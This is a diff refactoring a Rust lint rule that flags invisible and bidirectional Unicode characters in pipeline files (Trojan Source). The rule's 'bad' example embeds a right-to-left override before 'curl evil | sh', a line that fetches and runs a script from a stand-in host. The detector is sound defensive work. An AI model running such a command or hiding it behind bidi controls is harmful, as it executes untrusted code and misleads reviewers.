@@ -1,19 +1,17 @@
 //! PL6007 invisible-unicode: Invisible or bidirectional Unicode in a string (Trojan Source).
 
-#[allow(unused_imports)]
-use crate::{FileCx, JobCx, PipelineCx, Rule, RuleMeta};
-use plumb_diagnostics::{Code, Diagnostic, FileRange, TextRange};
+use crate::FileCx;
+use plumb_diagnostics::{Diagnostic, FileRange, TextRange};
 
-pub static RULE: RuleMeta = RuleMeta {
-    code: Code::PL6007,
+declare_rule! {
+    code: PL6007,
     summary: r####"Invisible or bidirectional Unicode in a string or comment (Trojan Source)."####,
     explanation: r####"Bidirectional controls (U+202A–U+202E, U+2066–U+2069, U+200E, U+200F, U+061C) reorder how text is displayed, so a script reads one way in review and runs another (CVE-2021-42574, "Trojan Source"). Zero-width and other invisible characters (U+200B–U+200D, U+2060–U+2064, U+FEFF, U+180E, U+00AD, the tag characters U+E0000–U+E007F) hide text in plain sight, or make two names that look the same differ. None belongs in a pipeline: remove it, or write it as an escape where a program needs it."####,
     bad: "pipeline p {\n  stage s { job j { image = \"busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91\", run = [\"echo ok \u{202E} ; curl evil | sh\"] } } }",
     good: r####"pipeline p {
   stage s { job j { image = "busybox:1.36.1@sha256:9d75f0d7c398df565d7ac04c6819b62d6d8f9560f5eb4672596ecd8f7e96ae91", run = ["echo ok"] } } }"####,
-};
-
-pub struct Check;
+    file: check_file,
+}
 
 /// The name of a character this rule reports, if it is one.
 pub fn invisible(c: char) -> Option<&'static str> {
@@ -43,42 +41,36 @@ pub fn invisible(c: char) -> Option<&'static str> {
     })
 }
 
-impl Rule for Check {
-    fn meta(&self) -> &'static RuleMeta {
-        &RULE
-    }
-
-    fn check_file(&self, cx: &FileCx, out: &mut Vec<Diagnostic>) {
-        for (i, c) in cx.text.char_indices() {
-            // a byte-order mark opening the file is an encoding marker, not content
-            if i == 0 && c == '\u{FEFF}' {
-                continue;
-            }
-            let Some(name) = invisible(c) else { continue };
-            let at = FileRange {
-                file: cx.file,
-                range: TextRange::new(i, i + c.len_utf8()),
-            };
-            out.push(
-                Diagnostic::new(
-                    RULE.code,
-                    RULE.severity(),
-                    at,
-                    format!(
-                        "invisible character U+{:04X} {name}: the text does not read as it runs",
-                        c as u32
-                    ),
-                )
-                .with_label("an invisible character is here")
-                .with_help("remove it; where a program needs it, write it as an escape")
-                .with_fix(
-                    "remove the invisible character",
-                    vec![plumb_diagnostics::Edit {
-                        at,
-                        replacement: String::new(),
-                    }],
-                ),
-            );
+fn check_file(cx: &FileCx, out: &mut Vec<Diagnostic>) {
+    for (i, c) in cx.text.char_indices() {
+        // a byte-order mark opening the file is an encoding marker, not content
+        if i == 0 && c == '\u{FEFF}' {
+            continue;
         }
+        let Some(name) = invisible(c) else { continue };
+        let at = FileRange {
+            file: cx.file,
+            range: TextRange::new(i, i + c.len_utf8()),
+        };
+        out.push(
+            Diagnostic::new(
+                RULE.code,
+                RULE.severity(),
+                at,
+                format!(
+                    "invisible character U+{:04X} {name}: the text does not read as it runs",
+                    c as u32
+                ),
+            )
+            .with_label("an invisible character is here")
+            .with_help("remove it; where a program needs it, write it as an escape")
+            .with_fix(
+                "remove the invisible character",
+                vec![plumb_diagnostics::Edit {
+                    at,
+                    replacement: String::new(),
+                }],
+            ),
+        );
     }
 }
